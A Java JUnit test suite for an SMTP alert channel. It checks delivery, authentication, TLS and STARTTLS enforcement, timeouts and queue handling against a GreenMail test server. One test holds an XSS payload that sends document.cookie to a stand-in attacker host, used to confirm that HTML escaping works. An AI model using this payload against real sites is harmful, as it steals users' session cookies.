package io.webhookd.alert.smtp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.icegreen.greenmail.configuration.GreenMailConfiguration;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.DummySSLServerSocketFactory;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.icegreen.greenmail.util.ServerSetupTest;
import io.webhookd.spi.Alert;
import jakarta.mail.BodyPart;
import jakarta.mail.Message;
import jakarta.mail.Multipart;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.security.KeyStore;
import java.time.Clock;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

class SmtpAlertChannelTest {
  private static final Duration WAIT = Duration.ofSeconds(30);

  @RegisterExtension
  final GreenMailExtension greenMail =
      new GreenMailExtension(
              new ServerSetup[] {
                patient(ServerSetupTest.SMTP.dynamicPort()), patient(ServerSetupTest.SMTPS.dynamicPort())
              })
          .withConfiguration(
              GreenMailConfiguration.aConfig().withUser("alerts@example.com", "alerts", "s3cret"));

  private final List<SmtpAlertChannel> channels = new ArrayList<>();

  /** GreenMail's default of 2 s to start is too short on a busy shared machine. */
  private static ServerSetup patient(ServerSetup setup) {
    setup.setServerStartupTimeout(WAIT.toMillis());
    return setup;
  }

  @AfterEach
  void closeChannels() {
    channels.forEach(SmtpAlertChannel::close);
  }

  private SmtpAlertChannel.Builder plain() {
    return SmtpAlertChannel.builder()
        .host("127.0.0.1")
        .port(greenMail.getSmtp().getPort())
        .from("webhookd <webhookd@example.com>")
        .clock(Clock.fixed(Alerts.AT, ZoneOffset.UTC));
  }

  private SmtpAlertChannel open(SmtpAlertChannel.Builder builder) {
    SmtpAlertChannel channel = builder.build();
    channels.add(channel);
    return channel;
  }

  private static void awaitSent(CompletableFuture<Void> sent) throws Exception {
    sent.get(WAIT.toSeconds(), TimeUnit.SECONDS);
  }

  private static Throwable awaitFailure(CompletableFuture<Void> sent) {
    // GreenMail's threads throw when our client refuses a handshake: not this test's business
    await().atMost(WAIT).dontCatchUncaughtExceptions().until(sent::isDone);
    assertThat(sent).isCompletedExceptionally();
    try {
      sent.join();
      throw new AssertionError("not failed");
    } catch (RuntimeException e) {
      return e.getCause();
    }
  }

  private static String part(MimeMessage m, String type) throws Exception {
    Multipart alternative = (Multipart) m.getContent();
    for (int i = 0; i < alternative.getCount(); i++) {
      BodyPart p = alternative.getBodyPart(i);
      if (p.isMimeType(type)) {
        return (String) p.getContent();
      }
    }
    throw new AssertionError("no " + type + " part");
  }

  @ParameterizedTest
  @EnumSource(Alert.Kind.class)
  @DisplayName("each alert kind sends one mail to exactly the listed recipients, facts in both parts")
  void eachKindSendsOneMailToExactlyTheRecipients(Alert.Kind kind) throws Exception {
    SmtpAlertChannel channel = open(plain());
    Alert alert = Alerts.of(kind, 503, "{\"error\":\"upstream unavailable\"}");

    awaitSent(channel.send(alert));

    MimeMessage[] received = greenMail.getReceivedMessages();
    assertThat(received).hasSize(Alerts.RECIPIENTS.size()); // one copy per recipient mailbox
    for (String recipient : Alerts.RECIPIENTS) {
      assertThat(
              greenMail.findReceivedMessages(u -> u.getEmail().equals(recipient), m -> true).count())
          .as("mails delivered to %s", recipient)
          .isEqualTo(1);
    }
    MimeMessage mail = received[0];
    assertThat(Arrays.stream(mail.getRecipients(Message.RecipientType.TO)).map(a -> ((InternetAddress) a).getAddress()))
        .containsExactlyElementsOf(Alerts.RECIPIENTS);
    assertThat(mail.getRecipients(Message.RecipientType.CC)).isNull();
    assertThat(((InternetAddress) mail.getFrom()[0]).getAddress()).isEqualTo("webhookd@example.com");
    assertThat(mail.getSubject())
        .isEqualTo(AlertMessageFormatter.create(Clock.fixed(Alerts.AT, ZoneOffset.UTC)).subject(alert))
        .startsWith("[webhookd] orders-to-billing ");
    assertThat(mail.isMimeType("multipart/alternative")).isTrue();
    assertThat(mail.getHeader("X-Webhookd-Alert", null)).isEqualTo(kind.wireName());
    assertThat(mail.getHeader("Auto-Submitted", null)).isEqualTo("auto-generated");
    for (String body : List.of(part(mail, "text/plain"), part(mail, "text/html"))) {
      assertThat(body)
          .contains(Alerts.NAME, Alerts.ID, Alerts.URL, "HTTP 503", "upstream unavailable")
          .contains("3 h 12 min ago", "1,234", alert.nextStep(), "2026-11-29 10:15:30 UTC");
    }
  }

  @Test
  void subjectsReadAsTheIssueAsks() throws Exception {
    SmtpAlertChannel channel = open(plain());

    awaitSent(channel.send(Alerts.withRecipients(List.of("ops@example.com"))));

    assertThat(greenMail.getReceivedMessages()[0].getSubject())
        .isEqualTo("[webhookd] orders-to-billing is failing: HTTP 503");
  }

  @Test
  void hostileResponseBodyArrivesEscapedInTheHtmlPart() throws Exception {
    SmtpAlertChannel channel = open(plain());
    String hostile = "<script>document.location='https://evil.example/'+document.cookie</script>";

    awaitSent(channel.send(Alerts.of(Alert.Kind.UNHEALTHY, 500, hostile)));

    MimeMessage mail = greenMail.getReceivedMessages()[0];
    assertThat(part(mail, "text/html")).doesNotContain("<script>").contains("&lt;script&gt;");
    assertThat(part(mail, "text/plain")).contains(hostile);
  }

  @Test
  void duplicateRecipientsGetOneMail() throws Exception {
    SmtpAlertChannel channel = open(plain());

    awaitSent(channel.send(Alerts.withRecipients(List.of("ops@example.com", "ops@example.com"))));

    assertThat(greenMail.getReceivedMessages()).hasSize(1);
  }

  @Test
  void authenticatesWithUserAndPassword() throws Exception {
    SmtpAlertChannel channel = open(plain().username("alerts").password("s3cret"));

    awaitSent(channel.send(Alerts.unhealthy()));

    assertThat(greenMail.getReceivedMessages()).hasSize(Alerts.RECIPIENTS.size());
  }

  @Test
  void wrongPasswordFailsTheFutureWithAClearErrorThatHidesThePassword() {
    SmtpAlertChannel channel = open(plain().username("alerts").password("wrong-pass"));

    Throwable failure = awaitFailure(channel.send(Alerts.unhealthy()));

    assertThat(failure)
        .isInstanceOf(SmtpAlertException.class)
        .hasMessageContaining("SMTP authentication failed for user 'alerts'")
        .hasMessageContaining("unhealthy alert of subscription 'sub-7f3a'")
        .hasMessageContaining("127.0.0.1:" + greenMail.getSmtp().getPort())
        .hasMessageNotContaining("wrong-pass");
    assertThat(((SmtpAlertException) failure).retryable()).isFalse();
    assertThat(greenMail.getReceivedMessages()).isEmpty();
    assertThat(channel.toString()).contains("username=alerts").doesNotContain("wrong-pass");
  }

  @Test
  void implicitTlsTrustingTheSelfSignedTestCertificate() throws Exception {
    SmtpAlertChannel channel =
        open(
            plain()
                .port(greenMail.getSmtps().getPort())
                .implicitTls(true)
                .trustAllCertificatesForTesting(true)
                .username("alerts")
                .password("s3cret"));

    awaitSent(channel.send(Alerts.unhealthy()));

    assertThat(greenMail.getReceivedMessages()).hasSize(Alerts.RECIPIENTS.size());
  }

  @Test
  void implicitTlsRefusesAnUntrustedCertificate() {
    SmtpAlertChannel channel =
        open(plain().port(greenMail.getSmtps().getPort()).implicitTls(true));

    Throwable failure = awaitFailure(channel.send(Alerts.unhealthy()));

    assertThat(failure).isInstanceOf(SmtpAlertException.class).hasMessageContaining("PKIX");
    assertThat(greenMail.getReceivedMessages()).isEmpty();
  }

  @Test
  void startTlsUpgradesTheConnectionAndAuthenticatesInside() throws Exception {
    try (StartTlsRelay relay = new StartTlsRelay(TestTls.serverContext(), greenMail.getSmtp().getPort())) {
      SmtpAlertChannel channel =
          open(
              plain()
                  .port(relay.port())
                  .startTls(true)
                  .sslSocketFactory(TestTls.clientTrusting(TestTls.keyStore()))
                  .username("alerts")
                  .password("s3cret"));

      awaitSent(channel.send(Alerts.unhealthy()));

      assertThat(relay.upgrades()).isEqualTo(1);
      assertThat(greenMail.getReceivedMessages()).hasSize(Alerts.RECIPIENTS.size());
    }
  }

  @Test
  void startTlsChecksTheServerNameAgainstItsCertificate() throws Exception {
    // GreenMail's certificate, trusted here, names "GreenMail selfsigned Test Certificate" only
    KeyStore greenMailKeys = new DummySSLServerSocketFactory().getKeyStore();
    try (StartTlsRelay relay =
        new StartTlsRelay(TestTls.serverContext(greenMailKeys), greenMail.getSmtp().getPort())) {
      SmtpAlertChannel channel =
          open(
              plain()
                  .port(relay.port())
                  .startTls(true)
                  .sslSocketFactory(TestTls.clientTrusting(greenMailKeys)));

      Throwable failure = awaitFailure(channel.send(Alerts.unhealthy()));

      assertThat(failure).isInstanceOf(SmtpAlertException.class).hasMessageContaining("127.0.0.1");
      assertThat(failure).hasStackTraceContaining("CertificateException");
      assertThat(relay.upgrades()).isZero();
      assertThat(greenMail.getReceivedMessages()).isEmpty();
    }
  }

  @Test
  void startTlsIsRequiredNotOptional() {
    // GreenMail's plain SMTP does not offer STARTTLS: the mail must not go out in clear text
    SmtpAlertChannel channel =
        open(plain().startTls(true).trustAllCertificatesForTesting(true).username("alerts").password("s3cret"));

    Throwable failure = awaitFailure(channel.send(Alerts.unhealthy()));

    assertThat(failure).isInstanceOf(SmtpAlertException.class).hasMessageContaining("STARTTLS");
    assertThat(greenMail.getReceivedMessages()).isEmpty();
  }

  @Test
  void smtpDownFailsTheFutureThenASendWithTheServerUpSucceeds() throws Exception {
    int port = freePort();
    SmtpAlertChannel channel =
        open(plain().port(port).connectTimeout(Duration.ofSeconds(5)).timeout(Duration.ofSeconds(5)));

    Throwable failure = awaitFailure(channel.send(Alerts.unhealthy()));
    assertThat(failure)
        .isInstanceOf(SmtpAlertException.class)
        .hasMessageContaining("127.0.0.1:" + port);
    assertThat(((SmtpAlertException) failure).retryable()).isTrue();

    GreenMail late = new GreenMail(patient(new ServerSetup(port, "127.0.0.1", ServerSetup.PROTOCOL_SMTP)));
    late.start();
    try {
      awaitSent(channel.send(Alerts.unhealthy()));
      assertThat(late.getReceivedMessages()).hasSize(Alerts.RECIPIENTS.size());
    } finally {
      late.stop();
    }
  }

  @Test
  void sendReturnsAtOnceWhileTheServerStalls() throws Exception {
    try (StallingSmtpServer stalling = new StallingSmtpServer()) {
      SmtpAlertChannel channel = open(plain().port(stalling.port()).timeout(Duration.ofMinutes(5)));

      CompletableFuture<Void> sent = channel.send(Alerts.unhealthy());

      assertThat(sent).isNotDone();
      assertThat(stalling.accepted.await(WAIT.toSeconds(), TimeUnit.SECONDS)).isTrue();
      assertThat(sent).as("the server has not even greeted").isNotDone();
      CompletableFuture<Void> queued = channel.send(Alerts.unhealthy());
      assertThat(queued).as("waits behind the stalled one; the caller does not").isNotDone();

      stalling.hangUp();
      assertThat(awaitFailure(sent)).isInstanceOf(SmtpAlertException.class);
      assertThat(awaitFailure(queued)).isInstanceOf(SmtpAlertException.class);
    }
  }

  @Test
  void readTimeoutEndsAnAttemptAgainstAStalledServer() throws Exception {
    try (StallingSmtpServer stalling = new StallingSmtpServer()) {
      SmtpAlertChannel channel = open(plain().port(stalling.port()).timeout(Duration.ofMillis(300)));

      Throwable failure = awaitFailure(channel.send(Alerts.unhealthy()));

      assertThat(failure).isInstanceOf(SmtpAlertException.class).hasMessageContaining("timed out");
      assertThat(((SmtpAlertException) failure).retryable()).isTrue();
    }
  }

  @Test
  void alertWithoutRecipientsFailsAtOnceAndIsNotRetryable() {
    SmtpAlertChannel channel = open(plain());

    CompletableFuture<Void> sent = channel.send(Alerts.withRecipients(List.of()));

    assertThat(sent).isCompletedExceptionally();
    assertThat(awaitFailure(sent)).hasMessageContaining("no recipients");
  }

  @Test
  void invalidRecipientFailsAtOnceNamingTheAddress() {
    SmtpAlertChannel channel = open(plain());

    Throwable failure =
        awaitFailure(channel.send(Alerts.withRecipients(List.of("ops@example.com", "not an address"))));

    assertThat(failure).hasMessageContaining("invalid recipient address 'not an address'");
    assertThat(((SmtpAlertException) failure).retryable()).isFalse();
    assertThat(greenMail.getReceivedMessages()).isEmpty();
  }

  @Test
  void sendAfterCloseFails() {
    SmtpAlertChannel channel = open(plain());
    channel.close();
    channel.close(); // idempotent

    assertThat(awaitFailure(channel.send(Alerts.unhealthy()))).hasMessageContaining("closed");
  }

  @Test
  void closeFailsTheAlertsStillQueuedInsteadOfDroppingThem() throws Exception {
    try (StallingSmtpServer stalling = new StallingSmtpServer()) {
      SmtpAlertChannel channel =
          open(plain().port(stalling.port()).connectTimeout(Duration.ofMillis(200)).timeout(Duration.ofMillis(200)));
      CompletableFuture<Void> first = channel.send(Alerts.unhealthy());
      CompletableFuture<Void> second = channel.send(Alerts.unhealthy());
      CompletableFuture<Void> third = channel.send(Alerts.unhealthy());

      channel.close();

      assertThat(List.of(first, second, third))
          .allSatisfy(f -> assertThat(f).isCompletedExceptionally());
    }
  }

  private static int freePort() throws IOException {
    try (ServerSocket s = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      return s.getLocalPort();
    }
  }

}
